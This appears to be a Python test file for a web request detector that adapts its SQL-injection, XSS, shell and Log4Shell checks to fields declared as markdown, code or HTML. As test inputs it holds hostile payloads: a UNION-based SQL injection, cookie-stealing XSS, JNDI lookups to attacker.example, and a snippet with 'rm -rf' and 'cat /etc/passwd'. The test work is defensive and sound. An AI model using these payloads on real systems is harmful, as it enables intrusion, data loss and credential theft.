"""Content-aware inspection: fields their owner declared as markdown, code or HTML get the
checks that make sense for that kind of text; every other field gets them all."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from dijk.detect.content import kind_of_schema, split_markdown
from dijk.detect.engine import Detector
from dijk.detect.findings import RequestParts, Verdict

DETECTOR = Detector(paranoia=1)
ATTACK = "x' UNION SELECT password FROM users--"
TICKET = """The nightly export fails. Steps to reproduce:

```sql
SELECT id, name FROM accounts WHERE iban = 'NL91ABNA0417164300'
UNION SELECT id, name FROM archived_accounts;
```

It also logs `x' UNION SELECT password FROM users--` as the failing input, and
~~~bash
curl -s http://localhost:8080/api | jq . ; cat /etc/hosts
~~~
Expected: both lists."""


def post(body: object, kinds: dict[tuple[str, str], str] | None) -> Verdict:
    request = RequestParts.from_target(
        "POST",
        "/api/v1/tickets",
        [("Content-Type", "application/json")],
        json.dumps(body).encode(),
    )
    return DETECTOR.inspect(replace(request, content_kinds=kinds))


MARKDOWN = {("json", "$.description"): "markdown"}


def test_a_markdown_description_with_fenced_sql_and_shell_passes() -> None:
    assert post({"subject": "Export broken", "description": TICKET}, MARKDOWN).findings == ()
    # the same ticket, undeclared, is what the detector refused before
    assert post({"subject": "Export broken", "description": TICKET}, None).blocked


@pytest.mark.parametrize("field", ["subject", "name", "q"])
def test_an_attack_in_a_plain_field_beside_markdown_is_still_refused(field: str) -> None:
    verdict = post({field: ATTACK, "description": TICKET}, MARKDOWN)
    assert verdict.blocked
    assert {finding.field for finding in verdict.findings} == {f"$.{field}"}


@pytest.mark.parametrize(
    ("description", "category"),
    [
        # outside the code: every check
        (ATTACK, "sqli"),
        ("Hello <script>alert(document.cookie)</script>", "xss"),
        ("See `code` but then x' UNION SELECT password FROM users-- here", "sqli"),
        # inside the code: what is dangerous wherever text goes
        ("```\n${jndi:ldap://attacker.example/a}\n```", "log4shell"),
        ("run `${jndi:ldap://attacker.example/a}`", "log4shell"),
    ],
)
def test_markdown_keeps_the_checks_that_apply_to_it(description: str, category: str) -> None:
    verdict = post({"description": description}, MARKDOWN)
    assert verdict.blocked
    assert category in verdict.categories


def test_a_code_field_is_only_checked_for_what_matters_anywhere() -> None:
    kinds = {("json", "$.snippets[*]"): "code"}
    snippet = "SELECT * FROM users WHERE name = '' OR 1=1 --'; rm -rf /tmp/x; cat /etc/passwd"
    assert post({"snippets": [snippet]}, kinds).findings == ()
    verdict = post({"snippets": ['log.info("${jndi:ldap://attacker.example/a}")']}, kinds)
    assert verdict.blocked
    assert "log4shell" in verdict.categories


def test_an_html_field_keeps_xss_and_drops_sql_and_shell() -> None:
    kinds = {("json", "$.page"): "html"}
    page = "<p>Run <code>SELECT name FROM users UNION SELECT name FROM staff</code></p>"
    assert not post({"page": page}, kinds).blocked
    verdict = post({"page": "<p>Hi</p><img src=x onerror=alert(document.cookie)>"}, kinds)
    assert verdict.blocked
    assert "xss" in verdict.categories


def test_prose_is_inspected_fully() -> None:
    verdict = post({"description": ATTACK}, {("json", "$.description"): "prose"})
    assert verdict.blocked


@pytest.mark.parametrize(
    ("text", "prose", "code"),
    [
        ("plain text", "plain text", ""),
        ("a `b` c", "a   c", "b"),
        ("a ``b ` c`` d", "a   d", "b ` c"),
        ("unclosed `tick", "unclosed `tick", ""),
        ("x\n```\ncode\n```\ny", "x\n\n\n\ny", "code"),
        ("x\n````\n```\nstill code\n````\ny", "x\n\n\n\n\ny", "```\nstill code"),
        ("x\n~~~\nopen to the end", "x\n\n", "open to the end"),
    ],
)
def test_markdown_is_split_into_prose_and_code(text: str, prose: str, code: str) -> None:
    assert split_markdown(text) == (prose, code)


@pytest.mark.parametrize(
    ("extension", "media", "form", "kind"),
    [
        ("markdown", None, None, "markdown"),
        ("CODE", "text/markdown", None, "code"),
        (None, "text/markdown; charset=utf-8", None, "markdown"),
        (None, "text/html", None, "html"),
        (None, "text/x-python", None, "code"),
        (None, "application/x-sh", None, "code"),
        (None, "text/plain", None, "prose"),
        (None, None, "markdown", "markdown"),
        (None, None, "email", None),
        ("nonsense", "image/png", "uuid", None),
    ],
)
def test_the_kind_a_schema_declares(
    extension: str | None, media: str | None, form: str | None, kind: str | None
) -> None:
    assert kind_of_schema(extension, media, form) == kind
